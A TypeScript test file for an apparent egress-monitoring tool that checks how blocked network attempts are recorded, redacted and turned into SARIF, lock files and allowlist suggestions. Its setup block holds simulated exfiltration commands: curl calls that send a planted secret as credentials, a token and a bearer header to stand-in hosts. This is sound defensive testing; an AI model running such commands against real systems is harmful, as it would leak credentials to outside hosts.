import { spawnSync } from 'node:child_process'
import { beforeAll, describe, expect, test } from 'vitest'
import { observeEgress } from '../../src/index.ts'
import { formatViolation } from '../../src/evidence/explain/format-violation.ts'
import { createRecord } from '../../src/run/file/create-record.ts'
import type { AttemptRecord, EvidenceFile } from '../../src/run/file/evidence-file.ts'
import { formatSarif } from '../../src/run/formats/format-sarif.ts'
import { createPageEvidence } from '../../src/run/formats/page-evidence.ts'
import { createLock } from '../../src/run/lock/create-lock.ts'
import { suggestAllowlist } from '../../src/run/suggest/suggest-allowlist.ts'
import { runOf } from '../run/file/evidence-of-runs.ts'
import { startFar } from './far/start-far.ts'
import { findProblem, program } from './gateway/run-program.ts'

const far = await startFar()
const why = await findProblem()
const { http, tcp } = far.ports
const file = 'test/weather.test.ts'
const secret = 'PLANTED8secret'

describe.skipIf(why !== undefined)('evidence of a program behind the gateway', { timeout: 60_000 }, () => {
  let evidence: EvidenceFile
  const of = (port: number | undefined, host: string): AttemptRecord | undefined =>
    evidence.attempts.find((record) => record.port === port && record.host === host)

  beforeAll(async () => {
    const allow = [`localhost:${http}`, 'localhost:1']
    const { attempts } = await observeEgress({ subprocess: 'isolate', allow }, () => {
      spawnSync('sh', ['-c', `curl -s -u someone:${secret} 'http://203.0.113.9:8443/?token=${secret}'; true`])
      spawnSync('curl', ['-s', '-H', `Authorization: Bearer ${secret}`, 'http://api.example.com/'])
      spawnSync('curl', ['-s', `http://127.0.0.1:${http}/`])
      const [env, ...args] = program
      spawnSync(env, [...args, `dns:192.0.2.53/localhost:${tcp}`])
    })
    const run = runOf()
    const records = attempts.map((one) =>
      createRecord({ ...one, file, scope: 'weather' }, { run, root: process.cwd() }),
    )
    evidence = { formatVersion: 1, runs: [run], attempts: records }
  })

  test('names the program with its number and command, those that started it, the name and the address', () => {
    expect(of(8443, '203.0.113.9')?.process).toMatch(
      /^program \d+: curl -s -u \S+ http:\/\/203\.0\.113\.9:8443\/.*, started by \S*sh/,
    )
    expect(of(undefined, 'api.example.com')).toMatchObject({ channel: 'dns', reason: 'not-allowed' })
    const [record] = evidence.attempts.filter(({ port }) => port === tcp)
    expect(record).toMatchObject({ host: 'localhost', names: ['localhost'], outcome: 'blocked' })
    expect(['127.0.0.1', '::1']).toContain(record?.address)
    const text = record && formatViolation({ scope: '', ...record }, { cwd: '/' })
    expect(text).toMatch(/^ {2}host {4,}localhost → (?:127\.0\.0\.1|::1)$/m)
    expect(text).toMatch(/^ {2}in {6,}program \d+: /m)
  })

  test('has no secret, and neither has any output', () => {
    const outputs = [evidence, formatSarif(evidence), createPageEvidence(evidence), createLock(evidence)]

    for (const output of outputs) expect(JSON.stringify(output)).not.toContain(secret)
  })

  test('is in the lock by its destination, without the program', () => {
    const [{ destinations } = { destinations: [] }] = createLock(evidence).files

    expect(destinations.filter(({ destination }) => destination !== 'localhost')).toMatchObject([
      { destination: `localhost:${http}`, rules: [`localhost:${http}`] },
    ])
  })

  test('leads to suggested rules for its destinations', () => {
    const { places, left } = suggestAllowlist(evidence, { for: 'docblock' })

    expect(places.flatMap(({ rules }) => rules.map(({ rule }) => rule)).toSorted()).toEqual([
      '203.0.113.9:8443',
      'api.example.com',
      'localhost',
    ])
    expect(left).toEqual([])
  })

  test('becomes one SARIF result per destination, at the line that started the program, with its command and without its number', () => {
    // formatSarif wrote it.
    const log = JSON.parse(formatSarif(evidence)) as { runs: { results: SarifResult[] }[] }
    const results = log.runs.flatMap((run) => run.results)
    const byAddress = results.find(({ message }) => message.text.includes('203.0.113.9'))

    expect(results.map(({ properties }) => properties.destination).toSorted()).toEqual(
      ['203.0.113.9:8443', 'api.example.com', `localhost:${tcp}`].toSorted(),
    )
    expect(byAddress?.message.text).toMatch(/^in program: curl -s -u \S+ http:.*, started by \S*sh/m)
    expect(JSON.stringify(byAddress?.locations)).toContain('gateway-evidence.test.ts')
  })

  test('is on the page with its destination, and what would allow it', () => {
    const { attempts } = createPageEvidence(evidence)

    expect(attempts.find(({ port }) => port === 8443)).toMatchObject({
      destination: '203.0.113.9:8443',
      target: 'connect 203.0.113.9:8443',
      allow: '// @agentguard allow=203.0.113.9:8443',
    })
    expect(attempts.find(({ host }) => host === 'api.example.com')).toMatchObject({
      destination: 'api.example.com',
      allow: '// @agentguard allow=api.example.com',
    })
  })
})

interface SarifResult {
  readonly message: { readonly text: string }
  readonly locations: readonly unknown[]
  readonly properties: { readonly destination: string }
}
